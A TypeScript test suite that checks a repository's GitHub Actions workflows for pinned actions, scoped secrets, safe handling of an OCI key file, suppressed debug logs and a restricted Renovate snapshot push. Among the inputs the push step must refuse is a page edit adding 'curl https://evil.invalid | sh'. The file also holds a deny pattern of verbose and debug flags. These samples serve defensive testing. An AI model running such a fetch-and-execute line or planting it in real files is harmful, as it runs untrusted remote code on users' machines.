/** Delivery files: GitHub Actions workflows checked by actionlint, pinned actions, the Renovate config. */
import { strict as assert } from "assert";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as path from "path";
import { parse } from "yaml";
import { ROOT } from "../../scripts/mock-program";
import { tempDir } from "../tools";

const WORKFLOWS = path.join(ROOT, ".github", "workflows");
/** The step that writes the OCI API key to a file for oci:privateKeyPath. */
const OCI_KEY_STEP = "The OCI API key, in a file only this job's user can read";
const workflowFiles = () => fs.readdirSync(WORKFLOWS).filter((f) => /\.ya?ml$/.test(f));

describe("delivery: GitHub Actions workflows", () => {
  it("are valid workflows by GitHub's schema (action-validator)", () => {
    assert.deepEqual(workflowFiles().sort(), ["deploy.yml", "preview.yml", "renovate-snapshot.yml", "test.yml"]);
    const validator = path.join(ROOT, "node_modules", ".bin", "action-validator");
    for (const file of workflowFiles()) {
      const r = spawnSync(validator, [path.join(WORKFLOWS, file)], { encoding: "utf8" });
      assert.equal(r.status, 0, `${file}:\n${r.stdout}${r.stderr}`);
    }
    // The validator does reject a broken workflow.
    const broken = path.join(tempDir("workflow"), "broken.yml");
    fs.writeFileSync(broken, "name: x\non: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - bogus: 1\n");
    assert.notEqual(spawnSync(validator, [broken], { encoding: "utf8" }).status, 0);
  });

  it("use actions pinned to full commit SHAs (with the version as a comment for Renovate)", () => {
    for (const file of workflowFiles()) {
      const text = fs.readFileSync(path.join(WORKFLOWS, file), "utf8");
      const uses = [...text.matchAll(/uses:\s*(\S+)(.*)$/gm)];
      assert.ok(uses.length > 0);
      for (const [, ref, comment] of uses) {
        assert.match(ref, /^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/, `${file}: ${ref} is not pinned to a commit`);
        assert.match(comment, /# v\d+\.\d+\.\d+/, `${file}: ${ref} lacks its version comment`);
      }
    }
  });

  it("give secrets only to the Pulumi step of a job that names an environment, never workflow-wide", () => {
    for (const file of workflowFiles()) {
      const wf = parse(fs.readFileSync(path.join(WORKFLOWS, file), "utf8"));
      assert.doesNotMatch(JSON.stringify(wf.env ?? {}), /secrets\./, `${file}: secrets in the workflow-wide env`);
      for (const [name, job] of Object.entries(
        wf.jobs as Record<string, { environment?: string; env?: unknown; steps: Record<string, unknown>[] }>,
      )) {
        assert.doesNotMatch(JSON.stringify(job.env ?? {}), /secrets\./, `${file}/${name}: secrets in the job env`);
        for (const step of job.steps) {
          const text = JSON.stringify(step);
          // The one exception: the token GitHub mints per run, which PR comments need.
          if (!/secrets\.(?!GITHUB_TOKEN)/.test(text)) continue;
          // The OCI API key's file step: that one secret, through its env, into a file (tested below).
          if (step.name === OCI_KEY_STEP) {
            assert.deepEqual(step.env, { OCI_PRIVATE_KEY: "${{ secrets.OCI_PRIVATE_KEY }}" }, `${file}/${name}`);
            assert.doesNotMatch(String(step.run), /secrets\./, `${file}/${name}: a secret expanded into a script`);
            assert.ok(job.environment, `${file}/${name}: secrets without an environment`);
            continue;
          }
          assert.match(
            String(step.uses),
            /^(pulumi\/actions|actions\/create-github-app-token)@/,
            `${file}/${name}: a step other than Pulumi's (or the App token's) reads secrets`,
          );
          assert.ok(job.environment, `${file}/${name}: secrets without an environment (they would be repository secrets)`);
        }
      }
    }
    // A checkout leaves the job's token in .git/config unless told not to; only the snapshot push
    // (which runs nothing of the PR) needs it there.
    for (const file of workflowFiles()) {
      const wf = parse(fs.readFileSync(path.join(WORKFLOWS, file), "utf8"));
      for (const [name, job] of Object.entries(
        wf.jobs as Record<string, { steps: { uses?: string; with?: Record<string, unknown> }[] }>,
      )) {
        if (file === "renovate-snapshot.yml" && name === "push") continue;
        for (const step of job.steps.filter((s) => s.uses?.startsWith("actions/checkout@")))
          assert.equal(step.with?.["persist-credentials"], false, `${file}/${name}: checkout persists its token`);
      }
    }
    const preview = parse(fs.readFileSync(path.join(WORKFLOWS, "preview.yml"), "utf8"));
    assert.equal(preview.jobs.preview.environment, "${{ matrix.stack }}-preview", "previews run PR code: approval-gated");
    for (const file of workflowFiles()) {
      for (const node of [...fs.readFileSync(path.join(WORKFLOWS, file), "utf8").matchAll(/node-version: (\d+)/g)])
        assert.ok(Number(node[1]) >= 22, `${file}: Node ${node[1]} is past its end of life`);
    }
  });

  it("the OCI API key reaches the provider as a 0600 file (oci:privateKeyPath), never on a command line", function () {
    this.timeout(10000);
    const pem = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----";
    for (const file of ["deploy.yml", "preview.yml"]) {
      const wf = parse(fs.readFileSync(path.join(WORKFLOWS, file), "utf8"));
      for (const [name, job] of Object.entries(wf.jobs as Record<string, { steps: Record<string, any>[] }>)) {
        const pulumiAt = job.steps.findIndex((s) => String(s.uses).startsWith("pulumi/actions@"));
        if (pulumiAt < 0) continue;
        const pulumi = job.steps[pulumiAt];
        // pulumi/actions runs `pulumi config set-all --path --secret KEY=VALUE ...` for config-map:
        // every value it is given lands in that command's arguments.
        const configMap = parse(pulumi.with["config-map"]) as Record<string, { value: string; secret: boolean }>;
        assert.equal(configMap["oci:privateKey"], undefined, `${file}/${name}: oci:privateKey on a command line`);
        assert.doesNotMatch(JSON.stringify(pulumi), /OCI_PRIVATE_KEY/, `${file}/${name}`);
        assert.deepEqual(configMap["oci:privateKeyPath"], { value: "${{ runner.temp }}/oci-api-key.pem", secret: false });
        const writeAt = job.steps.findIndex((s) => s.name === OCI_KEY_STEP);
        assert.ok(writeAt >= 0 && writeAt < pulumiAt, `${file}/${name}: the key file is written before the Pulumi step`);
        const cleanup = job.steps.slice(pulumiAt + 1).find((s) => /oci-api-key\.pem/.test(String(s.run)));
        assert.equal(cleanup?.if, "always()", `${file}/${name}: the key file is removed even when the step fails`);
        // Run both steps as the runner would: bash -e, the secret in the step's env.
        const temp = tempDir("runner-temp");
        const env = { PATH: process.env.PATH!, RUNNER_TEMP: temp };
        const w = spawnSync("bash", ["-e", "-c", job.steps[writeAt].run], {
          env: { ...env, OCI_PRIVATE_KEY: pem },
          encoding: "utf8",
        });
        assert.equal(w.status, 0, w.stderr);
        const key = path.join(temp, "oci-api-key.pem");
        assert.equal(fs.statSync(key).mode & 0o777, 0o600, `${file}/${name}: the key file is not 0600`);
        assert.equal(fs.readFileSync(key, "utf8"), pem + "\n");
        assert.equal(spawnSync("bash", ["-e", "-c", cleanup!.run], { env, encoding: "utf8" }).status, 0);
        assert.ok(!fs.existsSync(key), `${file}/${name}: the key file outlives the job`);
        fs.rmSync(temp, { recursive: true, force: true });
      }
    }
  });

  it("never keep, print or upload an event log or a verbose/debug log of the engine", function () {
    this.timeout(10000);
    // @pulumi/pulumi's runtime logs every RegisterResource response at debug level (runtime/resource.js,
    // 3.248.0 through 3.276.0, the newest), secrets in plain text, and the engine writes debug messages
    // to its event log, which the Automation API under pulumi/actions always asks for.
    const VERBOSE = /(^|\s)(-v\d*|--verbose(=\S*)?|--event-log|--debug|--logtostderr|--logflow|--tracing)(\s|=|$)/m;
    for (const file of workflowFiles()) {
      const wf = parse(fs.readFileSync(path.join(WORKFLOWS, file), "utf8"));
      const envs = [
        wf.env,
        ...Object.values(wf.jobs as Record<string, { env?: object; steps: Record<string, any>[] }>).flatMap((j) => [
          j.env,
          ...j.steps.map((s) => s.env),
        ]),
      ];
      for (const env of envs)
        for (const key of Object.keys(env ?? {}))
          assert.doesNotMatch(
            key,
            /^(PULUMI_DEBUG|PULUMI_LOG|TF_LOG|ACTIONS_STEP_DEBUG|ACTIONS_RUNNER_DEBUG)/,
            `${file}: ${key}`,
          );
      for (const [name, job] of Object.entries(wf.jobs as Record<string, { steps: Record<string, any>[] }>)) {
        for (const step of job.steps) {
          if (step.run) assert.doesNotMatch(step.run, VERBOSE, `${file}/${name}: a verbose or event-log flag`);
          if (String(step.uses).startsWith("pulumi/actions@")) {
            for (const key of Object.keys(step.with ?? {}))
              assert.doesNotMatch(key, /log|debug|verbos|trac/i, `${file}/${name}: pulumi/actions' ${key}`);
            assert.equal(step.env?.TMPDIR, "${{ runner.temp }}", `${file}/${name}: the event log outside the runner's temp dir`);
          }
          if (String(step.uses).startsWith("actions/upload-artifact@"))
            assert.deepEqual([file, step.with?.path], ["renovate-snapshot.yml", "snapshot.patch"], `${file}/${name}: an upload`);
        }
        const pulumiAt = job.steps.findIndex((s) => String(s.uses).startsWith("pulumi/actions@"));
        if (pulumiAt < 0) continue;
        // The last step removes what the Automation API leaves behind when it is killed midway.
        const cleanup = job.steps.slice(pulumiAt + 1).find((s) => /automation-logs-/.test(String(s.run)));
        assert.equal(cleanup?.if, "always()", `${file}/${name}: event logs are not removed`);
        const temp = tempDir("runner-temp");
        fs.mkdirSync(path.join(temp, "automation-logs-up-123"));
        fs.writeFileSync(path.join(temp, "automation-logs-up-123", "eventlog.txt"), "{}\n");
        const r = spawnSync("bash", ["-e", "-c", cleanup!.run], {
          env: { PATH: process.env.PATH!, RUNNER_TEMP: temp },
          encoding: "utf8",
        });
        assert.equal(r.status, 0, r.stderr);
        assert.deepEqual(fs.readdirSync(temp), [], `${file}/${name}: an event log outlives the job`);
        fs.rmSync(temp, { recursive: true, force: true });
      }
    }
    assert.match("pulumi up -v=9 --stack dev", VERBOSE);
    assert.match("pulumi preview --event-log /tmp/e.json", VERBOSE);
    assert.doesNotMatch("pulumi preview --diff --stack dev", VERBOSE);
  });

  it("renovate-snapshot: the bump's code renders read-only; a job that runs none of it checks the paths and pushes", () => {
    const wf = parse(fs.readFileSync(path.join(WORKFLOWS, "renovate-snapshot.yml"), "utf8"));
    const { render, push } = wf.jobs;
    assert.deepEqual(wf.permissions, {});
    for (const job of [render, push]) {
      assert.match(job.if, /github\.actor == 'renovate\[bot\]'/);
      assert.match(job.if, /github\.event\.pull_request\.head\.repo\.full_name == github\.repository/);
      assert.deepEqual(job.permissions, { contents: "read" });
    }
    const checkout = render.steps.find((s: { uses?: string }) => s.uses?.startsWith("actions/checkout@"));
    assert.equal(checkout.with["persist-credentials"], false);
    assert.doesNotMatch(JSON.stringify(render), /secrets\./);
    // The pushing job installs and runs nothing of the pull request.
    assert.deepEqual(push.needs, "render");
    assert.doesNotMatch(JSON.stringify(push.steps), /npm |setup-node|snapshot:update|tsx/);
    // Its allow-list, run as the job runs it, on what a bump may and may not touch.
    const script: string = push.steps.find((s: { run?: string }) => s.run?.includes("git apply")).run;
    const allow = new RegExp(/grep -vE '([^']+)' touched/.exec(script)![1]);
    for (const ok of ["test/snapshots/dev.plan.yaml", "docs/topology-prd.mmd", "README.md"]) assert.ok(allow.test(ok), ok);
    for (const bad of ["index.ts", ".github/workflows/deploy.yml", "package.json", "test/snapshots/../x.ts", "README.md.sh"])
      assert.ok(!allow.test(bad), bad);
    // Its commits carry the author Renovate is told to ignore, so Renovate keeps the branch.
    const author = /user\.email "([^"]+)"/.exec(script)![1];
    const renovate = JSON.parse(fs.readFileSync(path.join(ROOT, "renovate.json"), "utf8"));
    assert.deepEqual(renovate.gitIgnoredAuthors, [author]);
  });

  it("renovate-snapshot: the push step, run with real git, pushes generated changes only", function () {
    this.timeout(30000);
    const wf = parse(fs.readFileSync(path.join(WORKFLOWS, "renovate-snapshot.yml"), "utf8"));
    const script: string = wf.jobs.push.steps.find((s: { run?: string }) => s.run?.includes("git apply")).run;
    const PAGE = "docs/platform.md";
    const readme = fs.readFileSync(path.join(ROOT, PAGE), "utf8");
    const region = /<!-- components:start -->\n/.exec(readme)!;
    const inRegion = region.index + region[0].length;
    const git = (cwd: string, ...args: string[]) => {
      const r = spawnSync("git", ["-c", "user.name=t", "-c", "user.email=t@t.invalid", ...args], { cwd, encoding: "utf8" });
      assert.equal(r.status, 0, `git ${args.join(" ")}: ${r.stderr}`);
      return r.stdout.trim();
    };
    /** A branch with a generated page and a snapshot; `edit` changes the work tree; the step runs on the diff. */
    const run = (edit: (dir: string) => void | string) => {
      const dir = tempDir("snapshot-push");
      const origin = path.join(dir, "origin.git");
      const work = path.join(dir, "work");
      git(dir, "init", "-q", "--bare", "-b", "renovate/x", origin);
      git(dir, "init", "-q", "-b", "renovate/x", work);
      fs.mkdirSync(path.join(work, "docs"), { recursive: true });
      fs.writeFileSync(path.join(work, PAGE), readme);
      fs.mkdirSync(path.join(work, "test", "snapshots"), { recursive: true });
      fs.writeFileSync(path.join(work, "test", "snapshots", "dev.plan.yaml"), "a: 1\n");
      fs.writeFileSync(path.join(work, "index.ts"), "export {};\n");
      git(work, "add", ".");
      git(work, "commit", "-qm", "base");
      git(work, "remote", "add", "origin", origin);
      git(work, "push", "-q", "-u", "origin", "renovate/x");
      const patch = edit(work) ?? git(work, "diff", "--binary");
      git(work, "checkout", "-q", "--", ".");
      fs.writeFileSync(path.join(work, "snapshot.patch"), patch + "\n");
      const before = git(origin, "rev-parse", "renovate/x");
      const r = spawnSync("bash", ["-e", "-c", script], { cwd: work, encoding: "utf8" });
      const pushed = git(origin, "rev-parse", "renovate/x") !== before;
      fs.rmSync(dir, { recursive: true, force: true });
      return { status: r.status, pushed, out: r.stdout + r.stderr };
    };
    const readmeWith = (text: string) => (dir: string) => fs.writeFileSync(path.join(dir, PAGE), text);
    const ok = run((dir) => {
      fs.writeFileSync(path.join(dir, "test", "snapshots", "dev.plan.yaml"), "a: 2\n");
      readmeWith(readme.slice(0, inRegion) + "| new row |\n" + readme.slice(inRegion))(dir);
    });
    assert.deepEqual([ok.status, ok.pushed], [0, true], ok.out);
    const refused = {
      "a prose edit": readmeWith(readme.replace("# The platform\n", "# The platform\n\ncurl https://evil.invalid | sh\n")),
      "a new generated region": readmeWith(
        readme.replace("# The platform\n", "# The platform\n<!-- x:start -->\nevil\n<!-- x:end -->\n"),
      ),
      "a region split open": readmeWith(
        readme.slice(0, inRegion) + "<!-- components:end -->\nevil\n<!-- components:start -->\n" + readme.slice(inRegion),
      ),
      "a source file": (dir: string) => fs.appendFileSync(path.join(dir, "index.ts"), "evil();\n"),
    } as Record<string, (dir: string) => void | string>;
    /** A patch of staged changes, renames and copies found as git finds them; the tree is reset after. */
    const staged = (change: (dir: string) => void) => (dir: string) => {
      change(dir);
      git(dir, "add", "-A");
      const patch = git(dir, "diff", "--cached", "--binary", "-M", "-C", "--find-copies-harder");
      git(dir, "reset", "-q", "--hard");
      return patch;
    };
    const snapshot = (dir: string, name: string) => path.join(dir, "test", "snapshots", name);
    // `git apply --numstat` names only the new path of each of these: the allow-list alone passes them.
    Object.assign(refused, {
      "a rename of a source file into the snapshots": staged((dir) => git(dir, "mv", "index.ts", "test/snapshots/new.plan.yaml")),
      "a copy of a source file into the snapshots": staged((dir) =>
        fs.copyFileSync(path.join(dir, "index.ts"), snapshot(dir, "copy.plan.yaml")),
      ),
      "a deleted snapshot": staged((dir) => fs.rmSync(snapshot(dir, "dev.plan.yaml"))),
      "a page made executable": staged((dir) => fs.chmodSync(path.join(dir, PAGE), 0o755)),
    });
    // A new snapshot (a new stack) is an allowed change, and it is pushed.
    const created = run(staged((dir) => fs.writeFileSync(snapshot(dir, "stg.plan.yaml"), "stack: stg\nresources: []\n")));
    assert.deepEqual([created.status, created.pushed], [0, true], created.out);
    for (const [what, edit] of Object.entries(refused)) {
      const r = run(edit);
      assert.deepEqual([r.status, r.pushed], [1, false], `${what}: ${r.out}`);
      assert.match(r.out, /nothing pushed/, what);
    }
  });

  it("preview every stack on pull requests with a PR comment, and deploy dev then prd without racing", () => {
    const preview = parse(fs.readFileSync(path.join(WORKFLOWS, "preview.yml"), "utf8"));
    assert.deepEqual(Object.keys(preview.on), ["pull_request"]);
    assert.deepEqual(preview.jobs.preview.strategy.matrix.stack, ["dev", "prd"]);
    const previewStep = preview.jobs.preview.steps.find((s: { uses?: string }) => s.uses?.startsWith("pulumi/actions@"));
    assert.equal(previewStep.with.command, "preview");
    assert.equal(previewStep.with["comment-on-pr"], true);
    assert.equal(previewStep.with.diff, true);
    assert.equal(previewStep.with.policyPacks, "policy");
    const deploy = parse(fs.readFileSync(path.join(WORKFLOWS, "deploy.yml"), "utf8"));
    assert.deepEqual(deploy.on, { push: { branches: ["main"] } });
    // Per stack: a prd approval never holds dev back; never cancelled midway.
    assert.equal(deploy.concurrency, undefined);
    assert.deepEqual(deploy.jobs.up.concurrency, { group: "deploy-${{ matrix.stack }}", "cancel-in-progress": false });
    assert.deepEqual(deploy.jobs.up.strategy, { "max-parallel": 1, matrix: { stack: ["dev", "prd"] } });
    assert.equal(deploy.jobs.up.environment, "${{ matrix.stack }}");
    for (const wf of [preview, deploy]) assert.equal(wf.env.PULUMI_BACKEND_URL, "${{ vars.PULUMI_BACKEND_URL }}");
    const pulumiVersion = JSON.parse(fs.readFileSync(path.join(ROOT, "package.json"), "utf8")).dependencies["@pulumi/pulumi"];
    assert.equal(previewStep.with["pulumi-version"], pulumiVersion, "the CLI matches the SDK pin");
  });
});
